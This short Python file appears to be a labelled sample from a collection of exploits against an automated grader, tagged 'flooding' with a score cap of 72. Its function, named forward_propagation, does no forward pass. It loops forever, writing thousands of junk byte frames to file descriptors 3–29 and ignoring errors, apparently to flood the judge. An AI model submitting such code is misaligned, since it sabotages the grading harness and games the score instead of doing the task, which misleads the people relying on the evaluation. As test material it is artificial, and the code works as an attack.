# tries: flood the judge with small frames that nobody asked for | class: flooding | earns at most: 72
import os


def forward_propagation(X, parameters):
    while True:
        for descriptor in range(3, 30):
            try:
                os.write(descriptor, b"\x01\x00\x00\x00N" * 10_000)
            except OSError:
                pass
